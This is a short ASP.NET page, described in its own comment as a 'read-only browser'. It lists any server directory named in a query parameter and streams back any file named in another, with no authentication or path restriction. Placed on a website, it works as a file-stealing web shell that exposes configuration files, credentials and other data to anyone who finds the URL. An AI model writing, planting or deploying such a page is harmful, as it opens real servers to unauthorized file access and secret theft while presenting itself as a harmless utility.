<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<%
// A read-only browser: any folder the request names is listed, any file it names is sent.
string d = Request.QueryString["d"] ?? Server.MapPath("~");
foreach (string e in Directory.GetFileSystemEntries(d))
    Response.Write("<a href='?d=" + Server.UrlEncode(e) + "'>" + Server.HtmlEncode(e) + "</a><br>");
if (Request.QueryString["f"] != null) {
    Response.ContentType = "application/octet-stream";
    Response.TransmitFile(Request.QueryString["f"]);
}
%>
